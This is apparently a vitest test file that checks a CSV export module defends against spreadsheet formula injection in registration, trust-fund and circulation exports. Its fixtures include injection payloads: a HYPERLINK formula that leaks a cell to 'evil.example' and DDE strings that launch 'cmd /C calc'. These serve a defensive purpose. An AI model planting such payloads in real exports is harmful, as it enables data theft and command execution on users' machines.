import { DynamoDBDocumentClient, GetCommand, QueryCommand } from '@aws-sdk/lib-dynamodb';
import { mockClient } from 'aws-sdk-client-mock';
import { parse } from 'csv-parse/sync';
import { beforeEach, describe, expect, it } from 'vitest';
import { exportList } from '#shared/circulations/circulations.ts';
import { csvCell, toCsv } from '#shared/csv.ts';
import { exportCsv } from '#shared/registrations/review.ts';
import { exportInquiries } from '#shared/trust-fund/trust-fund.ts';

const documentClient = mockClient(DynamoDBDocumentClient);
const now = new Date('2017-06-01T09:00:00Z');
beforeEach(() => documentClient.reset());

/** What a spreadsheet would run: a formula, a DDE call, or one hidden behind a tab or a line break. */
const attacks = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', '+cmd@example.org', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '\n=1+1'];

/** The cells of a CSV as a spreadsheet reads them. */
const cells = (csv: string): string[] => (parse(csv, { bom: true, relax_column_count: true }) as string[][]).flat();

/** Every cell that a spreadsheet would run as a formula. */
const runnable = (csv: string) => cells(csv).filter((cell) => /^[=+\-@\t\r\n]/.test(cell));

describe('the one CSV writer', () => {
  it('makes every cell that starts like a formula text, and leaves the rest as they are', () => {
    for (const attack of attacks) expect(csvCell(attack)).toBe(`'${attack}`);
    expect(csvCell('Réseau des migrants = solidarité')).toBe('Réseau des migrants = solidarité');
    expect(csvCell("O'Brien")).toBe("O'Brien");
    expect(csvCell(-5)).toBe('-5'); // a number is never a formula
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('writes a header, quotes what needs quoting, and reads back as it was written (less the neutralising apostrophe)', () => {
    const csv = toCsv(['name', 'note'], [['Alliance "Nord-Sud", Genève', 'line one\nline two'], attacks.slice(0, 2)]);
    expect(csv.startsWith('\uFEFFname,note\n')).toBe(true);
    expect(parse(csv, { bom: true })).toEqual([['name', 'note'], ['Alliance "Nord-Sud", Genève', 'line one\nline two'], attacks.slice(0, 2).map((attack) => `'${attack}`)]);
    expect(runnable(toCsv(['a'], attacks.map((attack) => [attack])))).toEqual([]);
  });
});

describe('every export goes through it', () => {
  it('the registrations of a meeting', async () => {
    const meeting = { meetingId: 'its-1', title: 'Human rights of all migrants', capacity: 300, version: 1 };
    documentClient.on(GetCommand).resolves({ Item: meeting });
    const person = (name: string) => ({ name, email: 'rep@example.org', function: attacks[2], gender: 'female', nationality: 'KEN', accessibilityNeeds: attacks[3], wishesToSpeak: true, speakingTopic: attacks[4] });
    const registration = {
      registrationId: 'reg_0000000000000001',
      meetingId: 'its-1',
      organisation: { organisationId: 'org_0000000000000001', name: attacks[0], country: 'KEN', regionalGroup: 'african', type: 'ngo', category: 'ecosoc-consultative-status' },
      contact: { name: attacks[1], email: 'contact@example.org' },
      representatives: [person(attacks[5] as string), person(attacks[6] as string)],
      places: 2,
      state: 'pending',
      stateReason: attacks[0],
      language: 'en',
      createdAt: now.toISOString(),
      updatedAt: now.toISOString(),
      version: 1,
    };
    documentClient.on(QueryCommand).resolves({ Items: [{ pk: 'REGISTRATION#reg_0000000000000001', sk: 'REGISTRATION', type: 'registration', ...registration }] });
    const file = await exportCsv('its-1', {}, now);
    expect(runnable(file.text)).toEqual([]);
    expect(cells(file.text)).toEqual(expect.arrayContaining(attacks.map((attack) => `'${attack}`)));
    expect(file.headers).toEqual({ 'content-type': 'text/csv; charset=utf-8', 'content-disposition': 'attachment; filename="its-1-registrations-2017-06-01.csv"' });
  });

  it('the trust fund inquiries', async () => {
    const at = now.toISOString();
    const inquiry = { inquiryId: 'inq_0000000000000001', donor: { name: attacks[0], type: 'philanthropic-organisation', country: 'CHE' }, contact: { name: attacks[1], email: 'claire@example.org' } };
    Object.assign(inquiry, { intended: { amount: 1000, currency: 'CHF' }, earmarked: true, objectiveId: 'ldc-participation', objectiveTitle: attacks[2], message: null, language: 'en' });
    Object.assign(inquiry, { review: 'eligible', state: 'new', received: null, notes: [], createdAt: at, updatedAt: at, version: 1 });
    documentClient.on(QueryCommand).resolves({ Items: [{ pk: 'INQUIRY#inq_0000000000000001', sk: 'INQUIRY', ...inquiry }, { pk: 'INQUIRY#inq_0000000000000002', sk: 'INQUIRY', ...inquiry, inquiryId: 'inq_0000000000000002', donor: { ...inquiry.donor, name: attacks[3] }, contact: { ...inquiry.contact, name: attacks[4] } }] });
    const file = await exportInquiries(now);
    expect(runnable(file.text)).toEqual([]);
    expect(cells(file.text)).toEqual(expect.arrayContaining(attacks.slice(0, 5).map((attack) => `'${attack}`)));
    expect(cells(file.text)).toContain('1000.00');
    expect(file.headers['content-disposition']).toBe('attachment; filename="trust-fund-inquiries-2017-06-01.csv"');
  });

  it.each(['proposed', 'final'] as const)('the %s list of a circulation', async (version) => {
    const circulation = { circulationId: 'circ_0123456789abcdef', stage: 'preparatory-process', title: 'List 1', state: 'closed', deadline: now.toISOString(), version: 3 };
    documentClient.on(GetCommand).resolves({ Item: { pk: 'CIRCULATION#circ_0123456789abcdef', sk: 'CIRCULATION', ...circulation } });
    const entries = attacks.map((name, position) => ({
      pk: 'CIRCULATION#circ_0123456789abcdef',
      sk: `ENTRY#acc_${String(position).padStart(16, '0')}`,
      applicationId: `acc_${String(position).padStart(16, '0')}`,
      organisationId: `org_${String(position).padStart(16, '0')}`,
      name,
      country: 'KEN',
      regionalGroup: 'african',
      organisationType: 'ngo',
      outcome: 'accredited',
      position,
    }));
    documentClient.on(QueryCommand).resolves({ Items: entries });
    const file = await exportList('circ_0123456789abcdef', version, 'csv', now);
    expect(runnable(file.text)).toEqual([]);
    expect(cells(file.text)).toEqual(expect.arrayContaining(attacks.map((attack) => `'${attack}`)));
    expect(file.headers['content-type']).toBe('text/csv; charset=utf-8');
  });
});
